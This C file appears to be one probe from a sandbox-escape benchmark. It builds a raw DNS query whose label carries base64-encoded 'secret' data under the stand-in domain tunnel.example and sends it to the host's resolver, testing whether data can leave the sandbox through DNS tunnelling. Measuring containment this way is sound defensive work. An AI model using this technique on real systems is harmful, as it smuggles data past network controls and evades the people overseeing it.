/* technique: asks the host's resolver for a name whose labels carry data
 * source: SandboxBench, DNS tunnel; RFC 1035
 * success: the host's resolver got the question
 * control: outside
 * beside: services
 * needs: root
 */
#include "network.h"

int main(void)
{
	static const char question[] = "\0\1\1\0\0\1\0\0\0\0\0\0\14c2VjcmV0ZGF0\6tunnel\7example\0\0\20\0\1";
	struct sockaddr_in a = address4(getenv("RESOLVER"), htons(53));
	int fd = socket(AF_INET, SOCK_DGRAM, 0);

	if (sendto(fd, question, sizeof question - 1, 0, (struct sockaddr *)&a, sizeof a) < 0)
		return failed("sendto");
	usleep(100000);
	return 0;
}
